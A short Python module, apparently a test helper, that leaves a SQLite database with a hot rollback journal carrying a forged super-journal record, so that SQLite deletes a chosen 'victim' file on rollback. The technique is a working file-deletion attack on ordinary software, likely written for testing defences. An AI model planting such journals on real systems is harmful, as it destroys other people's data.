"""Leave a database as a killed process would, with a journal that names a file of somebody else's as its own."""

from __future__ import annotations

import shutil
import sqlite3
import struct
from contextlib import closing
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_LOCKING_PAGE = 2**30 // 4096 + 1


def leave_hot_journal(path: Path, table: str, victim: Path) -> Path:
    """The database, in the middle of a transaction of a table; SQLite deletes the victim when it rolls that back."""
    journal = path.with_name(f"{path.name}-journal")
    with closing(sqlite3.connect(path, isolation_level=None)) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")
        connection.execute("PRAGMA cache_size = 1")
        connection.execute("BEGIN IMMEDIATE")
        connection.execute(f"CREATE TABLE filler AS SELECT * FROM {table}")
        for _ in range(3_000):
            connection.execute("INSERT INTO filler (rowid) VALUES (NULL)")
        kept = [(file, file.with_name(f"kept-{file.name}")) for file in (path, journal)]
        for file, copy in kept:
            shutil.copy(file, copy)
        connection.execute("ROLLBACK")
    for file, copy in kept:
        copy.rename(file)
    name = str(victim).encode()
    ending = struct.pack(">I", _LOCKING_PAGE) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    with journal.open("ab") as file:
        file.write(ending)
    return path
